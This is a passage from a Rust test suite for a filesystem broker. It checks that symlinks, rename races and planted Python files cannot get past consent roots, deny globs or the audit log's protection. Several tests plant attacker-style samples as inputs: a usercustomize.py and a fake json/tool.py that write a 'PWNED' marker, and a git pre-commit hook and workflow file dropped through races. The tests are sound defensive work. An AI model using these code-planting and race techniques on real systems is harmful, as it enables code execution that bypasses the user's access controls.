        }
    }
    problems.assert_none("F6: the symlink a root is configured through");
}

// ---------------------------------------------------------------------------------------------
// F7: the audit log after `[audit] path` changes
// ---------------------------------------------------------------------------------------------

/// F7: `[audit] path` names `T/proj/audit.jsonl` inside the read-write root `p`; the user edits
/// the policy to log elsewhere and it reloads (the log in use stays until restart). That log
/// must stay protected: read, write and delete of `p/audit.jsonl` refused "protected…", and
/// the file only grew.
#[test]
fn f7_the_audit_log_in_use_stays_protected_after_the_audit_path_changes() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    std::fs::create_dir(&proj).unwrap();
    let log = proj.join("audit.jsonl");
    let policy = dir.join("cfg/policy.toml");
    let text = |audit: &Path| {
        format!(
            "{}[audit]\npath = {}\n\n{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            lit(audit)
        )
    };
    put(&policy, &text(&log));
    let mut b = serve(&policy);
    let protected = Reason::StartsWith(&["protected"]);
    b.ok("files/write", json!({"path": "p/a", "content": "1"}));
    let r = b.request("files/read", json!({"path": "p/audit.jsonl"}));
    denied(&r, "p/audit.jsonl", protected).expect("control: the log is protected at first");

    // The user moves the audit log elsewhere; the policy reloads.
    let from = b.log_len();
    let new = dir.join("cfg/policy.toml.new");
    std::fs::write(&new, text(&dir.join("cfg/new-audit.jsonl"))).unwrap();
    std::fs::rename(&new, &policy).unwrap();
    hangup(b.pid());
    let end = Instant::now() + DEADLINE;
    while !b
        .log_since(from)
        .iter()
        .any(|l| l.contains("the [audit] table changed"))
    {
        assert!(Instant::now() < end, "the policy did not reload");
        std::thread::sleep(Duration::from_millis(50));
    }
    b.ok("files/write", json!({"path": "p/b", "content": "1"}));
    let kept = std::fs::read(&log).unwrap();

    let mut problems = Problems::default();
    for (method, params) in [
        ("files/read", json!({"path": "p/audit.jsonl"})),
        (
            "files/write",
            json!({"path": "p/audit.jsonl", "content": ""}),
        ),
        ("files/delete", json!({"path": "p/audit.jsonl"})),
    ] {
        let r = b.request(method, params.clone());
        problems.check(
            &format!("{method} {params}"),
            denied(&r, "p/audit.jsonl", protected),
        );
    }
    match std::fs::read(&log) {
        Ok(now) if now.starts_with(&kept) => {}
        Ok(now) => problems.push(format!(
            "the audit log was rewritten: {} bytes, was {}",
            now.len(),
            kept.len()
        )),
        Err(e) => problems.push(format!("the audit log is gone: {e}")),
    }
    problems.assert_none("F7: the audit log in use after [audit] path changed");
}

// ---------------------------------------------------------------------------------------------
// F8 - F10: nested deny and prompt roots
// ---------------------------------------------------------------------------------------------

/// `T/proj` (root `outer`, read-write, auto) holding `dn` (root `dn`, read-write, consent
/// deny) and `pr` (root `pr`, read-write, prompt, the consent command approving everything):
///
/// ```text
/// proj/visible.txt   proj/dn/sub/private-name.txt   proj/dn/tax-return.pdf
/// proj/pr/diary.txt  proj/pr/granted/   proj/pr/private/
/// proj/lnk_dn -> dn   proj/lnk_pr -> pr   proj/pr/granted/lnk_priv -> ../private
/// ```
///
/// No deny glob anywhere.
fn nested_world() -> (tempfile::TempDir, PathBuf, Fsb) {
    let (t, dir) = tempdir();
    let proj = dir.join("proj");
    put(&proj.join("visible.txt"), "v");
    put(&proj.join("dn/sub/private-name.txt"), "DENYROOT");
    put(&proj.join("dn/tax-return.pdf"), "TAX");
    put(&proj.join("pr/diary.txt"), "PROMPT");
    mkdirs(&proj, &["pr/granted", "pr/private"]);
    symlink("dn", proj.join("lnk_dn")).unwrap();
    symlink("pr", proj.join("lnk_pr")).unwrap();
    symlink("../private", proj.join("pr/granted/lnk_priv")).unwrap();
    put(&dir.join("consent/approve.py"), APPROVE_ALL_PY);
    let policy = dir.join("policy/policy.toml");
    put(
        &policy,
        &format!(
            "{}{}{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
            root_toml(&lit(&proj), "outer", "read-write", "auto", &[]),
            root_toml(&lit(&proj.join("dn")), "dn", "read-write", "deny", &[]),
            root_toml(&lit(&proj.join("pr")), "pr", "read-write", "prompt", &[]),
            lit(Path::new(python())),
            lit(&dir.join("consent/approve.py")),
        ),
    );
    let b = serve(&policy);
    (t, dir, b)
}

/// F8: `files/create outer/lnk_dn/a/b/c/f` (`lnk_dn -> dn`, a nested `consent = "deny"` root)
/// and, after consent for `pr/granted` only, `files/create pr/granted/lnk_priv/x/y/z`
/// (`lnk_priv -> ../private`, ungranted): each refused "no consent" and no folder made
/// anywhere.
#[test]
fn f8_create_through_a_link_into_a_root_without_consent_makes_no_folders() {
    let (_t, dir, mut b) = nested_world();
    let proj = dir.join("proj");
    let mut problems = Problems::default();

    let before = snapshot(&proj);
    let r = b.request(
        "files/create",
        json!({"path": "outer/lnk_dn/a/b/c/f", "type": "file"}),
    );
    problems.check(
        "files/create outer/lnk_dn/a/b/c/f",
        denied(&r, "outer/lnk_dn/a/b/c/f", Reason::Is("no consent")),
    );
    let changed = diff(&before, &snapshot(&proj));
    if !changed.is_empty() {
        problems.push(format!(
            "files/create outer/lnk_dn/a/b/c/f changed the disk: {changed:?}"
        ));
    }

    let r = b.ok(
        "files/consent",
        json!({"message": "only granted", "requestedPaths": ["pr/granted"]}),
    );
    assert_eq!(
        r["approvedPaths"],
        json!([s(&proj.join("pr/granted"))]),
        "control: {r}"
    );
    let before = snapshot(&proj);
    let r = b.request(
        "files/create",
        json!({"path": "pr/granted/lnk_priv/x/y/z", "type": "directory"}),
    );
    problems.check(
        "files/create pr/granted/lnk_priv/x/y/z",
        denied(&r, "pr/granted/lnk_priv/x/y/z", Reason::Is("no consent")),
    );
    let changed = diff(&before, &snapshot(&proj));
    if !changed.is_empty() {
        problems.push(format!(
            "files/create pr/granted/lnk_priv/x/y/z changed the disk: {changed:?}"
        ));
    }
    // Control: the ungranted folder itself is closed.
    let r = b.request("files/list", json!({"path": "pr/private"}));
    problems.check(
        "control: files/list pr/private",
        denied(&r, "pr/private", Reason::Is("no consent")),
    );
    problems.assert_none("F8: files/create through a link into a root without consent");
}

/// F9: `files/list outer` with `recursive: true` shows nothing beneath the nested deny root
/// `dn` nor beneath the ungranted prompt root `pr` (whose direct listing is refused "no
/// consent", the controls), and still shows the rest.
#[test]
fn f9_a_recursive_listing_of_the_outer_root_hides_nested_roots_without_consent() {
    let (_t, _dir, mut b) = nested_world();
    for p in ["outer/dn", "outer/pr"] {
        let r = b.request("files/list", json!({"path": p}));
        denied(&r, p, Reason::Is("no consent")).unwrap_or_else(|e| panic!("control {p}: {e}"));
    }
    let names = listed(&mut b, "outer", true).unwrap_or_else(|r| panic!("list outer: {r}"));
    assert!(
        names.contains(&"outer/visible.txt".to_owned()),
        "control: {names:?}"
    );
    let leaked: Vec<&String> = names
        .iter()
        .filter(|n| n.starts_with("outer/dn/") || n.starts_with("outer/pr/"))
        .collect();
    assert!(
        leaked.is_empty(),
        "F9: a recursive list of outer shows the inside of roots without consent: {leaked:?}"
    );
}

/// F10: with no deny glob anywhere, `files/list outer/lnk_dn` (`lnk_dn -> dn`, a nested deny
/// root) and `outer/lnk_pr` (to the ungranted prompt root) are refused "no consent", like
/// reading a file through them (the controls).
#[test]
fn f10_a_listing_through_a_link_into_a_nested_root_without_consent_is_refused() {
    let (_t, _dir, mut b) = nested_world();
    let mut problems = Problems::default();
    for p in ["outer/lnk_dn/tax-return.pdf", "outer/lnk_pr/diary.txt"] {
        let r = b.request("files/read", json!({"path": p}));
        problems.check(
            &format!("control: files/read {p}"),
            denied(&r, p, Reason::Is("no consent")),
        );
    }
    for (p, recursive) in [
        ("outer/lnk_dn", false),
        ("outer/lnk_dn", true),
        ("outer/lnk_pr", false),
    ] {
        let r = b.request(
            "files/list",
            json!({"path": p, "recursive": recursive, "includeHidden": true}),
        );
        problems.check(
            &format!("files/list {p} recursive={recursive}"),
            denied(&r, p, Reason::Is("no consent")),
        );
    }
    problems.assert_none("F10: listing through a link into a nested root without consent");
}

/// F10, one prompt root: `h` = `T/home` (prompt, the command approving everything), consent
/// for `h/work` only, and the user's `h/work/priv -> ../private`: `files/list h/work/priv` is
/// refused "no consent", like `files/list h/private` and reading through the link (controls).
#[test]
fn f10_a_listing_through_a_link_in_a_granted_folder_to_an_ungranted_one_is_refused() {
    let (_t, dir) = tempdir();
    let home = dir.join("home");
    put(&home.join("private/passwords.kdbx"), OUTSIDE_MARKER);
    std::fs::create_dir(home.join("work")).unwrap();
    symlink("../private", home.join("work/priv")).unwrap();
    put(&dir.join("consent/approve.py"), APPROVE_ALL_PY);
    let policy = dir.join("policy/policy.toml");
    put(
        &policy,
        &format!(
            "{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
            root_toml(&lit(&home), "h", "read-only", "prompt", &[]),
            lit(Path::new(python())),
            lit(&dir.join("consent/approve.py")),
        ),
    );
    let mut b = serve(&policy);
    let r = b.ok(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["h/work"]}),
    );
    assert_eq!(r["approvedPaths"], json!([s(&home.join("work"))]), "{r}");
    let mut problems = Problems::default();
    let r = b.request("files/list", json!({"path": "h/private"}));
    problems.check(
        "control: files/list h/private",
        denied(&r, "h/private", Reason::Is("no consent")),
    );
    let r = b.request("files/read", json!({"path": "h/work/priv/passwords.kdbx"}));
    problems.check(
        "control: files/read h/work/priv/passwords.kdbx",
        denied(&r, "h/work/priv/passwords.kdbx", Reason::Is("no consent")),
    );
    match listed(&mut b, "h/work", false) {
        Ok(names) if names == ["h/work/priv"] => {}
        other => problems.push(format!("control: files/list h/work: {other:?}")),
    }
    let r = b.request(
        "files/list",
        json!({"path": "h/work/priv", "includeHidden": true}),
    );
    problems.check(
        "files/list h/work/priv",
        denied(&r, "h/work/priv", Reason::Is("no consent")),
    );
    problems.assert_none("F10: listing through a link from a granted folder to an ungranted one");
}

// ---------------------------------------------------------------------------------------------
// F11: listing the audit log's folder through a link
// ---------------------------------------------------------------------------------------------

/// F11: `T/proj` (root `p`, read-write, auto) holds `logs/` with the audit log
/// (`[audit] path`), a rotated `audit.jsonl.1.gz` and `notes.txt`, and the user's
/// `loglink -> logs`. `files/list p/loglink` shows `notes.txt` and neither log, like
/// `files/list p/logs` (the control).
#[test]
fn f11_a_listing_through_a_link_to_the_audit_logs_folder_hides_the_logs() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    put(&proj.join("logs/audit.jsonl.1.gz"), "ROTATED");
    put(&proj.join("logs/notes.txt"), "notes");
    symlink("logs", proj.join("loglink")).unwrap();
    let policy = dir.join("cfg/policy.toml");
    put(
        &policy,
        &format!(
            "{}[audit]\npath = {}\n\n{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            lit(&proj.join("logs/audit.jsonl"))
        ),
    );
    let mut b = serve(&policy);
    b.ok("files/write", json!({"path": "p/a.txt", "content": "a"}));
    assert!(proj.join("logs/audit.jsonl").is_file(), "no audit log");
    let mut problems = Problems::default();
    for (path, notes) in [
        ("p/logs", "p/logs/notes.txt"),
        ("p/loglink", "p/loglink/notes.txt"),
    ] {
        match listed(&mut b, path, false) {
            Ok(names) => {
                if !names.contains(&notes.to_owned()) {
                    problems.push(format!("files/list {path} misses {notes}: {names:?}"));
                }
                let logs: Vec<&String> = names.iter().filter(|n| n.contains("audit")).collect();
                if !logs.is_empty() {
                    problems.push(format!("files/list {path} shows {logs:?}"));
                }
            }
            Err(r) => problems.push(format!("files/list {path} failed: {}", shown(&r))),
        }
    }
    problems.assert_none("F11: listing the audit log's folder through a link");
}

// ---------------------------------------------------------------------------------------------
// A relative root on the command line
// ---------------------------------------------------------------------------------------------

/// `fsbroker serve --root .` run in `T/proj`, which holds `etc/hostname` and
/// `usr/share/fsb-review/marker.txt`: `files/read /etc/hostname` (and the other absolute path,
/// which exists only beneath `T/proj`) is refused "outside every root", never answered with
/// the file beneath the working directory; the same file by its real absolute path reads (the
/// control).
#[test]
fn relative_root_an_absolute_path_outside_is_outside_every_root() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    put(&proj.join("etc/hostname"), "in-proj-hostname\n");
    put(
        &proj.join("usr/share/fsb-review/marker.txt"),
        "in-proj-marker\n",
    );
    let mut b = Cmd::new(&["serve", "--root", "."])
        .cwd(&proj)
        .env("RUST_LOG", "fsbroker=info")
        .log(Log::File(dir.join("stderr.log")))
        .spawn();
    let roots = b.ok("roots/list", json!({}));
    assert_eq!(
        roots["roots"][0]["uri"],
        json!(uri(&proj)),
        "control: {roots}"
    );
    let r = b.ok("files/read", json!({"path": s(&proj.join("etc/hostname"))}));
    assert_eq!(r["content"], "in-proj-hostname\n", "control: {r}");
    let mut problems = Problems::default();
    for p in ["/etc/hostname", "/usr/share/fsb-review/marker.txt"] {
        let r = b.request("files/read", json!({"path": p}));
        problems.check(
            &format!("files/read {p}"),
            denied(&r, p, Reason::Is("outside every root")),
        );
        if b.last_raw.contains("in-proj") {
            problems.push(format!("files/read {p} answered a file beneath $PWD"));
        }
    }
    problems.assert_none("--root .: absolute paths outside the root");
}

// ---------------------------------------------------------------------------------------------
// Second review round
// ---------------------------------------------------------------------------------------------

/// R2-1: deny `.github/workflows/*.yml`. In one session, back to back: rename the *file* `X`
/// onto `.github/workflows`, delete `X`, rename the folder `D` (holding `evil.yml`) to `X`. If
/// the broker decided "a file, no tree to check" before the swap, the folder lands on the
/// denied name. `evil.yml` must never exist under `.github/workflows`.
#[test]
fn r2_a_file_swapped_for_a_folder_before_its_rename_never_lands_on_a_denied_name() {
    let (_t, proj, mut b) = one_root_denying(".github/workflows/*.yml");
    let workflows = proj.join(".github/workflows");
    let landed = workflows.join("evil.yml");
    let start = Instant::now();
    let mut tries = 0;
    for i in 0..300 {
        if start.elapsed() > Duration::from_secs(15) {
            break;
        }
        tries += 1;
        put(&proj.join("X"), "a file");
        put(&proj.join(format!("D{i}/evil.yml")), PAYLOAD);
        let ids = [
            b.send(
                "files/rename",
                json!({"oldPath": "p/X", "newPath": "p/.github/workflows"}),
            ),
            b.send("files/delete", json!({"path": "p/X"})),
            b.send(
                "files/rename",
                json!({"oldPath": format!("p/D{i}"), "newPath": "p/X"}),
            ),
        ];
        let answers: Vec<Value> = ids.iter().map(|id| b.response(*id)).collect();
        assert!(
            !exists(&landed),
            "R2-1: at try {i} evil.yml landed under .github/workflows: {}",
            answers.iter().map(shown).collect::<Vec<_>>().join(" | ")
        );
        let _ = std::fs::remove_dir_all(&workflows);
        let _ = std::fs::remove_file(&workflows);
        let _ = std::fs::remove_dir_all(proj.join("X"));
        let _ = std::fs::remove_file(proj.join("X"));
        let _ = std::fs::remove_dir_all(proj.join(format!("D{i}")));
    }
    println!("R2-1: {tries} tries in {:?}", start.elapsed());
}

/// R2-2: everything beneath the consent script's folder is sealed, not only its direct
/// entries: a sub-package it imports (`tools/helpers/__init__.py`) and the compiled cache
/// (`tools/__pycache__/…`) are refused "protected…" too; a folder beside `tools` is not.
#[test]
fn r2_everything_beneath_the_consent_scripts_folder_is_sealed() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    let tools = proj.join("tools");
    put(
        &tools.join("consent.py"),
        "import json, sys, helpers\njson.load(sys.stdin)\nprint(json.dumps({'approvedPaths': []}))\n",
    );
    put(&tools.join("helpers/__init__.py"), "");
    put(&tools.join("__pycache__/helpers.cpython-311.pyc"), "");
    put(&proj.join("other/keep.txt"), "keep");
    mkdirs(&dir, &["policy"]);
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{}[consent]\ncommand = [{}, {}]\nterminal = false\n\n{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            root_toml(&lit(&tools), "tools", "read-only", "auto", &[]),
            lit(Path::new(python())),
            lit(&tools.join("consent.py"))
        ),
    )
    .unwrap();
    let mut b = serve(&policy);
    let before = snapshot(&tools);
    let mut problems = Problems::default();
    for (method, params, path) in [
        (
            "files/write",
            json!({"path": "p/tools/helpers/__init__.py", "content": "import os\n"}),
            "p/tools/helpers/__init__.py",
        ),
        (
            "files/write",
            json!({"path": "p/tools/__pycache__/helpers.cpython-311.pyc", "content": "x"}),
            "p/tools/__pycache__/helpers.cpython-311.pyc",
        ),
        (
            "files/create",
            json!({"path": "p/tools/helpers/util.py", "type": "file"}),
            "p/tools/helpers/util.py",
        ),
        (
            "files/delete",
            json!({"path": "p/tools/__pycache__", "recursive": true}),
            "p/tools/__pycache__",
        ),
        (
            "files/rename",
            json!({"oldPath": "p/other/keep.txt", "newPath": "p/tools/helpers/keep.py"}),
            "p/tools/helpers/keep.py",
        ),
    ] {
        let r = b.request(method, params.clone());
        problems.check(
            &format!("{method} {params}"),
            denied(&r, path, Reason::StartsWith(&["protected"])),
        );
    }
    if snapshot(&tools) != before {
        problems.push(format!(
            "the consent command's folder changed: {:?}",
            diff(&before, &snapshot(&tools))
        ));
    }
    // Control: a folder beside it stays writable.
    b.ok(
        "files/write",
        json!({"path": "p/other/new.txt", "content": "ok"}),
    );
    problems.assert_none("R2-2: beneath the consent script's folder");
}

/// R2-3: the home folder is inside a read-write root. A server writes a `usercustomize.py`
/// into the user's Python site folder, which Python would run at every start — the consent
/// command included. The broker runs its consent command without the user site: the code
/// never runs, and the prompt root stays closed.
#[test]
fn r2_the_consent_command_does_not_run_the_users_python_site_code() {
    let (_t, dir) = tempdir();
    let home = dir.join("home");
    let marker = dir.join("PWNED");
    put(&home.join("notes.txt"), "notes");
    put(&dir.join("priv/secret.txt"), "secret");
    put(
        &dir.join("bin/consent.py"),
        "import json, sys\njson.load(sys.stdin)\nprint(json.dumps({'approvedPaths': []}))\n",
    );
    // Where python would look, for this HOME.
    let out = Command::new(python())
        .env("HOME", &home)
        .args(["-c", "import site; print(site.getusersitepackages())"])
        .output()
        .unwrap();
    let site = PathBuf::from(String::from_utf8(out.stdout).unwrap().trim());
    let rel = site
        .strip_prefix(&home)
        .expect("the user site is under HOME");
    mkdirs(&dir, &["policy"]);
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{}[consent]\ncommand = [{}, {}]\nterminal = false\n\n{LIMITS}",
            root_toml(&lit(&home), "h", "read-write", "auto", &[]),
            root_toml(&lit(&dir.join("priv")), "priv", "read-only", "prompt", &[]),
            lit(Path::new(python())),
            lit(&dir.join("bin/consent.py"))
        ),
    )
    .unwrap();
    // The person's state directory outside the root: under HOME it would hold the broker's
    // own files (the sign-in cache, `~/.local/state/fsbroker/sign-in`), and no server may
    // then make `~/.local`, which this test's server must, to plant its site code.
    let mut b = Fsb::spawn_program(
        "env",
        &[
            format!("HOME={}", s(&home)),
            format!("XDG_STATE_HOME={}", s(&dir.join("state"))),
            bin().to_owned(),
            "serve".into(),
            "--policy".into(),
            s(&policy),
        ],
    );
    let evil = format!(
        "import json, pathlib, sys\npathlib.Path({:?}).write_text('ran')\n",
        s(&marker)
    );
    let planted = format!("h/{}/usercustomize.py", s(rel));
    b.ok("files/create", json!({"path": planted, "type": "file"}));
    b.ok("files/write", json!({"path": planted, "content": evil}));
    // Control: the planted code does run for a python started the usual way.
    let ran = Command::new(python())
        .env("HOME", &home)
        .args(["-c", "pass"])
        .status()
        .unwrap();
    assert!(
        ran.success() && marker.exists(),
        "control: usercustomize did not run"
    );
    std::fs::remove_file(&marker).unwrap();
    let r = b.ok(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    assert!(
        !marker.exists(),
        "R2-3: the server's usercustomize.py ran in the consent command"
    );
    assert_eq!(r["granted"], json!(false), "{r}");
    let e = b.err("files/read", json!({"path": "priv/secret.txt"}));
    assert_eq!(e["data"]["reason"], "no consent", "{e}");
}

/// R2-4: a directory rename walks its tree while every other change waits; a tree larger than
/// the walk's bound is not moved (QUOTA_EXCEEDED, nothing changed), so no rename can hold the
/// others up for long.
#[test]
fn r2_a_directory_too_large_to_check_is_not_moved() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    let big = proj.join("big");
    mkdirs(&dir, &["proj/big", "policy"]);
    for i in 0..20_001 {
        std::fs::write(big.join(format!("f{i}")), "").unwrap();
    }
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &["**/.env"])
        ),
    )
    .unwrap();
    let mut b = serve(&policy);
    let e = b.err(
        "files/rename",
        json!({"oldPath": "p/big", "newPath": "p/moved"}),
    );
    assert_eq!(code(&e), "QUOTA_EXCEEDED", "{e}");
    assert_eq!(e["data"]["path"], "p/big", "{e}");
    assert!(big.is_dir() && !proj.join("moved").exists());
    // Control: a smaller tree moves.
    put(&proj.join("small/a.txt"), "a");
    b.ok(
        "files/rename",
        json!({"oldPath": "p/small", "newPath": "p/small2"}),
    );
}

// ---------------------------------------------------------------------------------------------
// Third review round
// ---------------------------------------------------------------------------------------------

/// R3-1: a consent command that runs anything from a read-write root — a virtualenv's python
/// (whose `site-packages` and `.pth` files it loads), a Node script (whose `node_modules` it
/// looks up in every parent folder), a Python script — is refused at load: `policy check` and
/// `serve` fail naming the file, and nothing runs.
#[test]
fn r3_consent_files_in_a_read_write_root_refuse_the_policy() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    put_exe(&proj.join(".venv/bin/python"), "#!/bin/sh\nexit 1\n");
    put(&proj.join("tools/approve.js"), "");
    put(&dir.join("outside/consent.py"), "");
    mkdirs(&dir, &["policy"]);
    let policy = dir.join("policy/policy.toml");
    for (program, script, names) in [
        (
            proj.join(".venv/bin/python"),
            dir.join("outside/consent.py"),
            ".venv/bin/python",
        ),
        (
            PathBuf::from("/bin/sh"),
            proj.join("tools/approve.js"),
            "tools/approve.js",
        ),
    ] {
        std::fs::write(
            &policy,
            format!(
                "{}[consent]\ncommand = [{}, {}]\nterminal = false\n",
                root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
                lit(&program),
                lit(&script)
            ),
        )
        .unwrap();
        for args in [vec!["policy", "check"], vec!["serve", "--policy"]] {
            let out = Command::new(bin())
                .args(&args)
                .arg(&policy)
                .stdin(std::process::Stdio::null())
                .output()
                .unwrap();
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{args:?} accepted {names}: {err}");
            assert!(
                err.contains(names) && err.contains("read-write root"),
                "{args:?}: {err}"
            );
        }
    }
    // Control: the same command with its files outside every writable root loads.
    std::fs::write(
        &policy,
        format!(
            "{}{}[consent]\ncommand = [{}, {}]\nterminal = false\n",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            root_toml(&lit(&proj.join(".venv")), "venv", "read-only", "auto", &[]),
            lit(&proj.join(".venv/bin/python")),
            lit(&dir.join("outside/consent.py"))
        ),
    )
    .unwrap();
    let out = Command::new(bin())
        .args(["policy", "check"])
        .arg(&policy)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// R3-2: hosts start the broker inside the project. `python3 -m json.tool` as the consent
/// command would import a `json` package the server wrote into the working directory; the
/// command runs in `/`, so the server's code never runs and nothing is approved.
#[test]
fn r3_the_consent_command_does_not_run_code_from_the_brokers_working_directory() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    let marker = dir.join("PWNED");
    put(&proj.join("a.txt"), "a");
    put(&dir.join("priv/secret.txt"), "secret");
    mkdirs(&dir, &["policy"]);
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{}[consent]\ncommand = [{}, \"-m\", \"json.tool\"]\nterminal = false\n\n{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            root_toml(&lit(&dir.join("priv")), "priv", "read-only", "prompt", &[]),
            lit(Path::new(python())),
        ),
    )
    .unwrap();
    let mut b = Fsb::spawn_program(
        "sh",
        &[
            "-c".to_owned(),
            format!(
                "cd {} && exec {} serve --policy {}",
                lit(&proj),
                lit(Path::new(bin())),
                lit(&policy)
            ),
        ],
    );
    let evil = format!(
        "import pathlib, sys\npathlib.Path({:?}).write_text('ran')\nsys.stdin.read()\n\
         print('{{\"approvedPaths\": ' + '[\"{}\"]' + '}}')\n",
        s(&marker),
        s(&dir.join("priv"))
    );
    b.ok(
        "files/create",
        json!({"path": "p/json/__init__.py", "type": "file"}),
    );
    b.ok(
        "files/write",
        json!({"path": "p/json/tool.py", "content": evil}),
    );
    let r = b.ok(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    assert!(!marker.exists(), "R3-2: the server's json/tool.py ran");
    assert_eq!(r["granted"], json!(false), "{r}");
}

/// R3-3: a tree a thousand folders deep costs a glob match per folder above each entry; its
/// rename is refused (QUOTA_EXCEEDED) instead of holding every other change up for seconds.
#[test]
fn r3_a_very_deep_tree_is_not_moved() {
    let (_t, proj, mut b) = one_root_denying("**/*.pem");
    let mut deep = proj.join("deep");
    for _ in 0..1000 {
        deep.push("a");
    }
    std::fs::create_dir_all(&deep).unwrap();
    let started = Instant::now();
    let r = b.request(
        "files/rename",
        json!({"oldPath": "p/deep", "newPath": "p/moved"}),
    );
    assert_eq!(code(&r["error"]), "QUOTA_EXCEEDED", "{r}");
    assert!(proj.join("deep").is_dir() && !proj.join("moved").exists());
    println!("R3-3: refused after {:?}", started.elapsed());
}

/// R3-4: in one session, back to back: rename the *file* `X` onto a deep
/// `.github/workflows`, delete `X`, create `X/evil.yml`. A file swapped for a folder while the
/// rename checks its destination must not be moved unchecked. `evil.yml` never lands.
#[test]
fn r3_a_file_swapped_for_a_new_folder_during_its_rename_never_lands_on_a_denied_name() {
    let (_t, proj, mut b) = one_root_denying("**/.github/workflows/*");
    // Deep, so the rename's checks take a while; within the 256-component limit.
    let mut deep = String::from("p");
    for _ in 0..250 {
        deep.push_str("/d");
    }
    let deep_disk = proj.join(deep.trim_start_matches("p/"));
    std::fs::create_dir_all(deep_disk.join(".github")).unwrap();
    let workflows = deep_disk.join(".github/workflows");
    let start = Instant::now();
    let mut tries = 0;
    for i in 0..300 {
        if start.elapsed() > Duration::from_secs(15) {
            break;
        }
        tries += 1;
        put(&proj.join("X"), "a file");
        let ids = [
            b.send(
                "files/rename",
                json!({"oldPath": "p/X", "newPath": format!("{deep}/.github/workflows")}),
            ),
            b.send("files/delete", json!({"path": "p/X"})),
            b.send(
                "files/write",
                json!({"path": "p/X/evil.yml", "content": PAYLOAD}),
            ),
            b.send(
                "files/create",
                json!({"path": "p/X/evil.yml", "type": "file"}),
            ),
        ];
        let answers: Vec<Value> = ids.iter().map(|id| b.response(*id)).collect();
        assert!(
            !exists(&workflows.join("evil.yml")),
            "R3-4: at try {i} evil.yml landed: {}",
            answers.iter().map(shown).collect::<Vec<_>>().join(" | ")
        );
        let _ = std::fs::remove_dir_all(&workflows);
        let _ = std::fs::remove_file(&workflows);
        let _ = std::fs::remove_dir_all(proj.join("X"));
        let _ = std::fs::remove_file(proj.join("X"));
    }
    println!("R3-4: {tries} tries in {:?}", start.elapsed());
}

// ---------------------------------------------------------------------------------------------
// Fourth review round
// ---------------------------------------------------------------------------------------------

/// R4-1: deny `**/.git/hooks/*`. One session, pipelined: a slow rename (a tree of 15,000
/// files, which holds the tree lock while it is walked), then `D` (holding `pre-commit`) →
/// `a/hooks`, then `a` → `.git`. If the second rename judged `D`'s entries under the name its
/// destination had when the request began (`a/hooks/pre-commit`) instead of where it is when
/// it moves (`.git/hooks/pre-commit`), the hook lands. It never does.
#[test]
fn r4_a_tree_is_judged_where_its_destination_is_when_it_moves() {
    let (_t, proj, mut b) = one_root_denying("**/.git/hooks/*");
    let slow = proj.join("W");
    std::fs::create_dir_all(&slow).unwrap();
    for i in 0..15_000 {
        std::fs::write(slow.join(format!("f{i}")), "").unwrap();
    }
    let hook = proj.join(".git/hooks/pre-commit");
    let names = ["W", "W2"];
    let start = Instant::now();
    let mut tries = 0;
    for i in 0..100 {
        if start.elapsed() > Duration::from_secs(20) {
            break;
        }
        tries += 1;
        let _ = std::fs::remove_dir_all(proj.join(".git"));
        let _ = std::fs::remove_dir_all(proj.join("a"));
        let _ = std::fs::remove_dir_all(proj.join("D"));
        std::fs::create_dir_all(proj.join("a")).unwrap();
        put(&proj.join("D/pre-commit"), "#!/bin/sh\necho pwned\n");
        let (from, to) = (names[i % 2], names[(i + 1) % 2]);
        let ids = [
            b.send(
                "files/rename",
                json!({"oldPath": format!("p/{from}"), "newPath": format!("p/{to}")}),
            ),
            b.send(
                "files/rename",
                json!({"oldPath": "p/D", "newPath": "p/a/hooks"}),
            ),
            b.send(
                "files/rename",
                json!({"oldPath": "p/a", "newPath": "p/.git"}),
            ),
        ];
        let answers: Vec<Value> = ids.iter().map(|id| b.response(*id)).collect();
        assert!(
            !exists(&hook),
            "R4-1: at try {i} the hook landed in .git/hooks: {}",
            answers.iter().map(shown).collect::<Vec<_>>().join(" | ")
        );
    }
    println!("R4-1: {tries} tries in {:?}", start.elapsed());
}

/// R4-2: request paths deeper than 256 components are refused (`INVALID_PATH`): the checks
/// on a path, some made while every other change waits, cost more with every folder above it.
#[test]
fn r4_paths_deeper_than_the_limit_are_refused() {
    let (_t, proj, mut b) = one_root_denying("**/*.pem");
    let deep = |n: usize| format!("p/{}x", "d/".repeat(n - 1));
    b.ok("files/create", json!({"path": deep(256), "type": "file"}));
    let r = b.request("files/create", json!({"path": deep(257), "type": "file"}));
    assert_eq!(code(&r["error"]), "INVALID_PATH", "{r}");
    assert_eq!(r["error"]["data"]["path"], json!(deep(257)), "{r}");
    let r = b.request(
        "files/rename",
        json!({"oldPath": deep(256), "newPath": format!("{}/y", deep(256))}),
    );
    assert_eq!(code(&r["error"]), "INVALID_PATH", "{r}");
    assert!(proj.join(deep(256).trim_start_matches("p/")).is_file());
}
